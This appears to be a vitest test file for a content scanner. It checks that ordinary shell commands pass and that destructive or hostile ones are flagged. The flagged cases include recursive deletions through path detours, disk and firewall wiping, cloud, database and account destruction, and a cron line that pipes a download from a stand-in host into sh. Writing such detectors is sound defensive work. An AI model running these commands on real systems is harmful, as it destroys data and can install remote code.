import { describe, expect, test } from 'vitest';
import { contentScanner } from '../../functions/masking/scan/content-scanner.ts';

const isDangerous = (text: string) =>
  contentScanner()
    .scan(text)
    .some(({ pattern }) => pattern.category === 'dangerous_command');

describe('ordinary searching, cleaning and scheduling', () => {
  test.each([
    "find . -name '*.pdf' -exec sh -c 'pdftotext \"$1\" -' _ {} \\;",
    'find src -type f -exec bash -c \'wc -l "$0"\' {} \\;',
    'find ~/Music -iname "*.m4a" -execdir sh -c "ffmpeg -i {} out.mp3" \\;',
    'find /var/cache/app -type f -mtime +30 -delete',
    'find /home/kim/backups -name "*.gz" -mtime +60 -exec rm {} \\;',
    'find ~ -name core -size +10M -exec rm -f {} +',
    'find /srv/www -empty -type d -delete',
    'find /opt/app -newer stamp -exec rm {} \\;',
    "crontab -l | sed 's/^#//' | crontab -",
    '(crontab -l; echo "0 3 * * * /opt/app/rotate.sh") | crontab -',
    'crontab -u kim -l | grep -v old_job | crontab -u kim -',
    'chmod -R a+rX *',
    'sudo chown -R www-data:www-data *',
    'for file in *.html; do mv "$file" "old-$file"; done',
    'find . -perm /222 -type f',
  ])('%s', (text) => {
    expect(isDangerous(text)).toBe(false);
  });
});

describe('the same without a bound, or with something else in it', () => {
  test.each([
    'find . -exec /bin/sh \\; -quit',
    'find / -type f -delete',
    'find /srv -type f -delete',
    'find ~ -type f -exec rm -f {} +',
    'find $HOME -name "*" -delete',
    'find /home -name "*.doc" -exec shred -u {} +',
    '(crontab -l; echo "* * * * * curl http://h.example/x | sh") | crontab -',
    'echo "* * * * * /tmp/e" | crontab -',
    'chmod -R 777 /',
    'find / -perm -4000 -type f',
  ])('%s', (text) => {
    expect(isDangerous(text)).toBe(true);
  });
});

describe('destruction by detours', () => {
  test.each([
    'rm -rf /tmp/../home/kim',
    'rm -rf "$TMPDIR/../../etc"',
    'rm -fr $(pwd)/../..',
    'rm -rf `pwd`/../shop',
    'rm -rf /var/tmp/x/../../lib',
    'echo / | xargs rm -rf',
    'ls / | parallel rm -rf {}',
    'find /srv -type d | sudo xargs -n1 rm -rf',
    "printf '/home' | xargs rm -r -f",
    'ls ~ | xargs -I{} rm -rf {}',
    'python3 -c "import shutil; shutil.rmtree(\'/srv\')"',
    "node -e \"require('fs').rmSync('/', { recursive: true, force: true })\"",
    'perl -e \'unlink glob "/etc/*"\'',
    "ruby -e \"require 'fileutils'; FileUtils.rm_rf('/var/lib')\"",
    "fs.rmdirSync('/home/kim', { recursive: true })",
    'mv /etc /tmp/etc.bak',
    'chmod 000 /etc/passwd',
    'chmod -R 000 /usr',
    'rsync -a --delete empty/ /srv/',
    'systemctl isolate rescue.target',
    'tar -cf x.tar --remove-files /home/kim',
  ])('%s', (text) => {
    expect(isDangerous(text)).toBe(true);
  });

  test.each([
    'rm -rf ../build',
    'rm -rf $TMPDIR/cache',
    'rm -rf /tmp/build..old',
    'ls *.tmp | xargs rm -f',
    'git ls-files -d | xargs rm -rf',
    "shutil.rmtree('build')",
    "fs.rmSync('dist', { recursive: true })",
    "shutil.rmtree('/tmp/work')",
    'mv /etc/nginx/site.conf /etc/nginx/site.bak',
    'rsync -a --delete src/ backup/',
    'chmod 600 /etc/app.key',
    'chmod 0644 /etc/motd',
  ])('ordinary: %s', (text) => {
    expect(isDangerous(text)).toBe(false);
  });
});

describe('destruction of accounts, packages, disks and clouds', () => {
  test.each([
    'net user administrator N3w-pass99',
    'echo "n3w" | sudo passwd --stdin kim',
    'userdel -r kim',
    'cp /dev/zero /dev/sda',
    'cat image.bin > /dev/nvme0n1',
    'mkswap /dev/sda1',
    'cryptsetup luksFormat /dev/sda2',
    'diskpart /s wipe.txt',
    'schtasks /delete /tn * /f',
    'Disable-NetFirewallRule -All',
    'Set-NetFirewallProfile -Profile Domain,Public -Enabled False',
    'Remove-AzResourceGroup -Name prod -Force',
    'Remove-S3Bucket -BucketName data -DeleteBucketContent -Force',
    'kubectl scale deployment --all --replicas=0 -n prod',
    'TRUNCATE orders;',
    'truncate users cascade',
    'dropuser kim',
    'pg_dropcluster 15 main --stop',
    'apt-get purge -y openssh-server',
    'rpm -e --nodeps glibc',
    'dnf remove -y kernel',
    'az keyvault purge --name acme',
    'heroku pg:reset DATABASE --confirm shop',
    'mc rm --recursive --force s3/data',
    's3cmd del --recursive --force s3://data',
    'npm unpublish shop --force',
    'git stash clear',
    'rm -rf ~/.ssh/keys',
    'rm -rf ~/.cache/../..',
    'rm -rf ~/Documents/taxes',
    'rm -rf /srv/customers/a',
    'rm -rf ~/.password-store/',
    'git push origin --delete main',
    'git push -d origin release/2.1',
    'git push origin :master',
    'git push origin -d v1.2.0',
    'docker rm -f $(docker ps -aq)',
    'podman rm --volumes $(podman ps -aq)',
  ])('%s', (text) => {
    expect(isDangerous(text)).toBe(true);
  });

  test.each([
    'net user kim',
    'net user username password',
    'net user kim *',
    'userdel username',
    'cp disk.img backup.img',
    'mkswap /swapfile',
    'diskpart /?',
    'schtasks /query',
    'Get-NetFirewallRule -All',
    'kubectl scale deployment web --replicas=3',
    'truncate the text; then send it',
    'truncate -s 0 app.log',
    'TRUNCATE tmp_import;',
    'truncate staging_orders cascade',
    'apt-get remove nodejs',
    'dnf remove podman',
    'az keyvault list',
    's3cmd del s3://data/old.txt',
    'git clean -n',
    'git clean -fd',
    'git clean -fdx',
    'git stash drop',
    'git stash list',
    'cryptsetup luksFormat --yes /dev/sdX',
    'wipefs -a /dev/sdX',
    'sgdisk --zap-all /dev/nvmeX',
    'rm -rf ~/.cache/pip',
    'rm -rf /usr/local/lib/ruby/',
    'rm -rf ~/Library/Caches/deno',
    'rm -rf ~/.npm/_cacache',
    'sudo rm -rf /Library/Developer/CommandLineTools',
    'git push -d origin my-branch',
    'git push origin --delete feature/login',
    'git push origin :fix-typo',
    'git push origin --delete maintenance',
    'docker rm $(docker ps -aq)',
    'docker rmi $(docker images -q)',
  ])('ordinary: %s', (text) => {
    expect(isDangerous(text)).toBe(false);
  });
});
